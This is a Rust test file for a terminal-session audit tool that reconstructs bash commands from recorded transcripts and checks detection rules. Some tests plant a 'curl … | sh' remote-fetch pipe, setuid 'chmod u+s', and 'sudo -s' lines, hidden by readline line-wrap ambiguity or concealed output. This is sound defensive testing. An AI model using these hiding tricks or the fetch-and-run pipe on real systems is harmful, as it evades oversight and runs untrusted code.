        assert!(got.commands.iter().all(|c| c.confidence == 1.0), "{name}");
    }
}

/// Two identical lines one after the other past the terminal's last line are written over
/// each other: the screen shows one, so one is read (bash ran both). Every other line of the
/// paste is read, with the active region (redraws) and without.
#[test]
fn identical_lines_written_over_the_last_line_read_as_one() {
    for name in ["i32_paste_past_bottom", "i32_paste_past_bottom_plain"] {
        let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
        let mut want = expected(name);
        let twice = want.iter().position(|c| c == "echo same").unwrap();
        assert_eq!(want[twice + 1], "echo same");
        want.remove(twice);
        for chunk in [1, 7, 4096] {
            let (_, got) = reconstruct(&bytes, chunk);
            let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
            assert_eq!(texts, want, "{name} (chunk {chunk})");
        }
    }
}

/// A known limit, pinned: a paste of lines wider than the terminal, past its last line, in a
/// session whose width was never learned (the pasted lines were wrapped by the terminal, so
/// readline drew no wrap marker). readline writes each row of such a line over the last line:
/// the full first row, a CR, the rest. Without the width a full row followed by more text is
/// what a line as long as the row followed by the next line looks like, so each wide line is
/// read as two commands. Nothing is lost or reordered: the commands' texts, joined, are the
/// paste's; the lines before the last line is reached are exact.
#[test]
fn lines_wider_than_the_terminal_past_its_last_line_read_as_their_rows_without_the_width() {
    let name = "i32_paste_past_bottom_wide";
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let want = expected(name);
    for chunk in [1, 7, 4096] {
        let (info, got) = reconstruct(&bytes, chunk);
        assert_eq!(info.width, None, "the width is not learned here");
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts[..7], want[..7], "before the last line: exact (chunk {chunk})");
        assert_eq!(texts.concat(), want.concat(), "all the text, in order (chunk {chunk})");
        assert_eq!(texts.len(), want.len() + 18, "each of 18 wide lines as two (chunk {chunk})");
        assert_eq!(texts.last(), Some(&"exit"));
    }
}

/// Lines wider than the terminal past its last line, in a session whose width was learned (a
/// long line typed first): readline writes each row of such a line over the last line, and a
/// full row, a CR and more text is the line's next row. The redraw of the last screenful may
/// begin with the last row of a wide line; it is still kept once. Lines of exactly one row
/// and of exactly two are among them. One ambiguity stays: after the line of exactly two rows
/// readline writes the next line just as it would the line's third row (no marker), so the
/// two are read as one command (the text is all there).
#[test]
fn lines_wider_than_the_terminal_past_its_last_line_read_whole_once_the_width_is_known() {
    let name = "i32_paste_past_bottom_wide_known";
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let want = expected_joined_after(name, "echo ff", 160);
    for chunk in [1, 7, 4096, 1 << 20] {
        let (info, got) = reconstruct(&bytes, chunk);
        assert_eq!(info.width, Some(80), "learned from the typed line's wrap marker");
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "{name} (chunk {chunk})");
    }
}

/// The person being audited uses that ambiguity: the line after the one of exactly two rows
/// is a command of their own (as long as the honest line it replaces, so readline draws it
/// the same way). It is read inside the line before it, all its text there, and that command
/// says it may be two (confidence 0.7 and why), as does every line read as going on past the
/// last line. The rules read it as a command of its own too: the text from where the row was
/// read as going on is judged, so a rule that needs a word's start (`…fcurl`) or the line's
/// start (`…fsudo -s`) there still fires, said of the command that holds it.
#[test]
fn a_command_hidden_after_a_line_ending_at_the_margin_is_kept_and_judged_on_its_own() {
    let name = "i32_paste_past_bottom_wide_known";
    let honest = [b"echo 7 ".as_slice(), &[b'v'; 20]].concat();
    let original = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let own = "may be a command of its own";
    let plain = Analyzer::default().analyze_bytes(&original, Input::default());
    assert!(plain.findings.iter().all(|f| !f.evidence.contains(own)), "{:?}", plain.findings);
    for (hidden, rule) in [
        (b"curl -s x.io/i|sh #vvvvvvvv".as_slice(), "SA-CMD-040"),
        (b"sudo -s #vvvvvvvvvvvvvvvvvv", "SA-CMD-001"),
    ] {
        assert_eq!(honest.len(), hidden.len());
        let mut bytes = original.clone();
        let mut replaced = 0;
        while let Some(at) = bytes.windows(honest.len()).position(|w| w == honest.as_slice()) {
            bytes[at..at + hidden.len()].copy_from_slice(hidden);
            replaced += 1;
        }
        assert!(replaced > 0);
        let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
        let typed = std::str::from_utf8(&hidden[..14]).unwrap();
        let carrier = report.commands.iter().find(|c| c.command.contains(typed)).unwrap();
        assert!(carrier.command.starts_with("echo ff"), "read inside the line before it");
        assert_eq!(carrier.confidence, 0.7);
        assert!(carrier.reason.as_deref().unwrap().contains("may be two commands"), "{carrier:?}");
        let honest_lines = report.commands.iter().filter(|c| c.command.starts_with("echo "));
        assert!(honest_lines.clone().any(|c| c.confidence == 1.0), "lines not joined keep 1.0");
        let raised: Vec<_> = report.findings.iter().filter(|f| f.rule_id == rule).collect();
        assert_eq!(raised.len(), 1, "{rule}: {:?}", report.findings);
        assert_eq!(raised[0].command_seq, Some(carrier.seq));
        assert!(raised[0].evidence.contains(own) && raised[0].evidence.contains(typed));
    }
}

/// Recorded for that attack, in a terminal of another size (72 columns, 10 rows) and another
/// prompt: past the last line, `chmod u+s` right after a line of exactly one row and
/// `crontab -l` right after a line of exactly two. The first is told apart (readline's wrap
/// marker ends a line of one row); the second is read inside the line before it. Both rules
/// fire, each said of the command holding it. The redraw of the last screenful, shorter in
/// lines than the rows readline line-fed (its wide lines take two rows each), is kept once.
#[test]
fn commands_pasted_after_lines_ending_at_the_margin_raise_their_rules() {
    let name = "i32_paste_past_bottom_hidden";
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let want = expected_joined_after(name, "echo sss", 144);
    for chunk in [1, 7, 4096] {
        let (info, got) = reconstruct(&bytes, chunk);
        assert_eq!(info.width, Some(72));
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "{name} (chunk {chunk})");
    }
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let seq_of = |start: &str| report.commands.iter().find(|c| c.command.starts_with(start));
    let raised = |rule: &str| -> Vec<_> {
        report.findings.iter().filter(|f| f.rule_id == rule).map(|f| f.command_seq).collect()
    };
    assert_eq!(raised("SA-CMD-003"), vec![seq_of("chmod u+s").map(|c| c.seq)]);
    assert_eq!(raised("SA-CMD-021"), vec![seq_of("echo sss").map(|c| c.seq)]);
    assert_eq!(seq_of("echo sss").unwrap().confidence, 0.7);
}

/// Wide lines of words past the last line (64 columns, 8 rows): rows that end between two
/// words, a space in the row's last column and a CR, which readline's wrap marker (a space
/// past the margin) is not. They were taken for markers and taught widths of 63 and more:
/// 8 of 18 read. Exact now.
#[test]
fn rows_ending_between_two_words_past_the_last_line_teach_no_width() {
    check("i32_paste_past_bottom_words");
    let bytes = std::fs::read(fixture("recorded/i32_paste_past_bottom_words.log")).unwrap();
    assert_eq!(reconstruct(&bytes, 4096).0.width, Some(64));
}

/// `fc` with two lines added to the file in vim: bash echoes each line of the file before it
/// runs it, among the output. The first echoed line is the command, the later ones stay its
/// output (a known limit, pinned), and the command rules read them: the setuid bit set on
/// the file's second line is found, said of the command that ran the file.
#[test]
fn later_lines_of_an_edited_file_are_judged_by_the_command_rules() {
    let name = "i32_fc_file_lines";
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let mut want = expected(name);
    let later: Vec<String> = want.drain(2..4).collect();
    assert_eq!(later, ["chmod u+s /tmp/sa_fc_probe", "id -u"]);
    for chunk in [1, 4096] {
        let (_, got) = reconstruct(&bytes, chunk);
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "chunk {chunk}");
        // Every line after the first echoed, up to the next prompt: none after it.
        let judged: Vec<&str> = got.after_edit.iter().map(|(_, l)| l.as_str()).collect();
        assert_eq!(judged, ["start one", later[0].as_str(), later[1].as_str(), "1001"]);
        assert!(got.after_edit.iter().all(|(seq, _)| *seq == 2));
    }
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let setuid: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-003").collect();
    assert_eq!(setuid.len(), 1, "{:?}", report.findings);
    assert_eq!(setuid[0].command_seq, Some(2));
    assert!(setuid[0].evidence.contains("file edited for command 2"), "{}", setuid[0].evidence);
    // The command after the file ran is read as usual, and its output is not judged so.
    let after = report.commands.iter().find(|c| c.command == "echo after").unwrap();
    assert_eq!(after.confidence, 1.0);
}

/// Edited into commands of more than one line (Ctrl-X Ctrl-E into a `for` loop, `fc` into an
/// `if` holding a quoted newline, then one more line): bash reads a whole command from the file
/// before it runs it, so the lines it echoes up to there are one command's. Read whole; the
/// line after the `if` stays its output (the known limit above).
#[test]
fn a_file_edited_into_a_command_of_many_lines_is_read_whole() {
    let name = "i32_edited_multiline";
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let mut want = expected(name);
    assert_eq!(want.remove(4), "echo tail");
    for chunk in [1, 7, 4096] {
        let (_, got) = reconstruct(&bytes, chunk);
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "chunk {chunk}");
        assert!(got.after_edit.iter().any(|(seq, line)| *seq == 4 && line == "echo tail"));
    }
}

/// Commands run from a full-screen program's command line: vim's `:!`, less's `!`, and the
/// pager's `!` under `man`. Each is typed on the alternate screen and runs after the program
/// leaves it, then it comes back: what its command line last showed is read by the command
/// rules, said of the command that started the program. A pager quit without running
/// anything (its file's last row reads like a command) is not.
#[test]
fn commands_run_from_a_full_screen_programs_command_line_are_judged() {
    let name = "i32_shell_escapes";
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let want = expected(name);
    for chunk in [1, 7, 4096] {
        let (_, got) = reconstruct(&bytes, chunk);
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "chunk {chunk}");
        let run: Vec<(u64, &str)> =
            got.run_from_programs.iter().map(|(seq, t)| (*seq, t.as_str())).collect();
        assert_eq!(run, [(2, "chmod u+s /tmp/sa_esc"), (3, "crontab -l"), (4, "id -u")]);
    }
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let by_rule = |rule: &str| -> Vec<Option<u64>> {
        report.findings.iter().filter(|f| f.rule_id == rule).map(|f| f.command_seq).collect()
    };
    assert_eq!(by_rule("SA-CMD-003"), [Some(2)]);
    assert_eq!(by_rule("SA-CMD-021"), [Some(3)]);
}

/// History references bash cannot expand (an event not found, a word that is not there, in
/// double quotes too): bash says so, runs nothing of the line and keeps nothing of it, so it
/// is no command. A command that prints the same error itself, its reference in single quotes
/// (which bash does not expand), ran: it is a command, and its setuid bit is found.
#[test]
fn lines_bash_could_not_expand_are_no_commands() {
    let got = check("i32_expansion_failed");
    assert_eq!(got.commands.len(), 4);
    let bytes = std::fs::read(fixture("recorded/i32_expansion_failed.log")).unwrap();
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    assert_eq!(report.stats.abandoned_lines, 3, "the three lines bash did not run");
    let setuid: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-003").collect();
    assert_eq!(setuid.len(), 1);
    assert_eq!(setuid[0].command_seq, Some(2), "said of the command that printed the error");
}

/// A terminal resized between a width learned and a paste taller than it: the paste begun low
/// (recorded at 80 columns) right after a session in 40 columns, as one transcript. The width
/// learned is the old one; past the last line readline writes rows up to 80 columns wide, which
/// contradicts it, so a row that fills 40 columns is not taken for the first row of a wider
/// line (each of the paste's lines is read, none twice).
#[test]
fn a_width_contradicted_past_the_last_line_joins_no_lines() {
    let body = |name: &str| {
        let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
        let start = bytes.iter().position(|&b| b == b'\n').unwrap() + 1;
        let end = bytes.windows(16).rposition(|w| w == b"\nScript done on ").unwrap() + 1;
        (bytes[..start].to_vec(), bytes[start..end].to_vec(), bytes[end..].to_vec())
    };
    let (header, narrow, _) = body("i32_wide_margin");
    let (_, low, footer) = body("i32_paste_past_bottom_low");
    let bytes = [header, narrow, low, footer].concat();
    let want = [expected("i32_wide_margin"), expected("i32_paste_past_bottom_low")].concat();
    for chunk in [1, 7, 4096] {
        let (_, got) = reconstruct(&bytes, chunk);
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "chunk {chunk}");
    }
}

/// Double-width characters (issue 32, class d): CJK and emoji typed, erased (two backspaces
/// each), edited in the middle, and one that does not fit at the right margin of a 40-column
/// terminal (readline pads the last column and wraps it), with a wide character in the
/// prompt. Each command is what bash ran; the width is learned from the padding.
#[test]
fn wide_characters_edited_and_at_the_margin_read_as_bash_ran_them() {
    let got = check("i32_wide_chars");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0));
    check("i32_wide_margin");
    let bytes = std::fs::read(fixture("recorded/i32_wide_margin.log")).unwrap();
    assert_eq!(reconstruct(&bytes, 4096).0.width, Some(40));
}

/// Recorded after the fixes for classes d to g, against none of which they were written: perl
/// execs dash (a bare `$ ` prompt, no markers), python's REPL (no markers either) starts bash
/// whose prompt is `>>> `, python prints a forged prompt, `tput invis` conceals what is typed,
/// and Hangul, fullwidth letters and an emoji are edited with Home and End.
#[test]
fn unseen_variants_of_takeover_program_shells_concealment_and_wide_characters() {
    let got = check("i32_unseen_variants");
    let by_text = |t: &str| got.commands.iter().find(|c| c.text == t).unwrap();
    assert!(by_text("echo via perl").reason.as_deref().unwrap().contains("markers stopped"));
    assert_eq!(by_text("id -un").prompt, ">>> ");
    assert_eq!(by_text("echo unseen").seen_in, Some("concealed"));
    assert_eq!(by_text("tput sgr0").seen_in, Some("concealed"));
    assert_eq!(by_text("echo X한국ＡＢ!").seen_in, None);
    assert_eq!(shell_stats("i32_unseen_variants").printed_prompt_lines, 1);
}

/// Class h: lines typed while bash's stderr (its prompt, the echo of what is typed and the
/// line editor's markers) went elsewhere. RHEL's `PROMPT_COMMAND` sets the window title on
/// stdout before every prompt: each title in the stretch is a prompt drawn out of sight, and
/// every one but the last had a line typed at it (3 + 1 + 2; the last stretch, with stdout
/// away at first, proves 1). A failed redirect (its message, then the prompt) and a
/// stdout-only redirect prove nothing. Without titles (bash as `sh`), output proves one line
/// per stretch; with nothing printed, nothing is counted.
#[test]
fn lines_typed_while_the_shells_stderr_is_away_are_counted() {
    use session_audit::{Analyzer, Input};
    check("i32_stderr_away");
    assert_eq!(shell_stats("i32_stderr_away").hidden_inputs, 7);
    let bytes = std::fs::read(fixture("recorded/i32_stderr_away.log")).unwrap();
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let named: Vec<String> = report
        .stats
        .parse_warnings
        .iter()
        .filter(|w| w.contains("sent the shell's stderr"))
        .map(|w| w.split(' ').take(2).collect::<Vec<_>>().join(" "))
        .collect();
    assert_eq!(named, ["command 2", "command 4", "command 8", "command 10"]);
    assert!(report.findings.iter().any(|f| f.rule_id == "SA-TRN-HIDDEN-INPUT"));
    check("i32_stderr_away_variants");
    assert_eq!(shell_stats("i32_stderr_away_variants").hidden_inputs, 2);
}

/// Characters of no width (class d): a variation selector, combining accents, joiners between
/// emoji, and (recorded after the fix, at 40 columns) Thai and Devanagari vowel signs, Hebrew
/// points, a keycap, a skin tone, an accent past the wrap: drawn on the cell before them, so
/// readline's moves and deletions over them land as the terminal's do. Before the fix three
/// of the first four commands were garbled (`echo café❤Kok` for `echo caféKok`).
#[test]
fn characters_of_no_width_ride_on_the_cell_before_them() {
    let got = check("i32_zero_width");
    assert_eq!(got.commands[0].text, "echo caféKok");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0));
    check("i32_zero_width_variants");
}

/// The shellProfile the agent writes into the terminal as the shell starts: echoed by the
/// terminal before the first prompt. dash reads it without showing it again (its prompt is
/// followed straight by the next); bash shows it again at its prompt. Either way it is the
/// session's first command and says where it came from. Before, dash's was lost.
#[test]
fn the_shell_profile_typed_ahead_is_the_first_command() {
    for name in ["i32_profile_dash_exec_bash", "i32_profile_variants"] {
        let got = check(name);
        let first = &got.commands[0];
        assert_eq!((first.prompt.as_str(), first.confidence), ("$ ", 0.7), "{name}");
        assert!(first.reason.as_deref().unwrap().starts_with("typed ahead"), "{name}");
        assert!(got.output.iter().all(|(_, l)| l != &first.text), "{name}: its echo is no output");
    }
    let got = check("i32_profile_sh_two_lines");
    assert!(got.commands[..2].iter().all(|c| c.confidence == 1.0
        && c.reason.as_deref().is_some_and(|r| r.starts_with("typed ahead"))));
    assert_eq!(got.commands[2].reason, None);
}

/// Class f, rows hidden after they were read: a prompt moving up and erasing the row above,
/// a cursor restored onto the last command's row and written over, and (recorded after the
/// fix) a `PROMPT_COMMAND` by reverse index, a command erasing its own row, a saved cursor
/// restored with an erase below. Output erased instead of the command, a command moving up
/// over its own output, and `clear` are not marks.
#[test]
fn rows_erased_or_written_over_after_submission_are_named() {
    let seen = |name: &str| -> Vec<(u64, &'static str)> {
        check(name).commands.iter().filter_map(|c| c.seen_in.map(|s| (c.seq, s))).collect()
    };
    let (erased, over) = ("erased_after_submit", "overwritten_after_submit");
    assert_eq!(seen("i32_row_erased"), [(2, erased), (6, over), (7, over)]);
    assert_eq!(
        seen("i32_row_erased_variants"),
        [(1, erased), (2, erased), (6, erased), (9, erased)]
    );
}
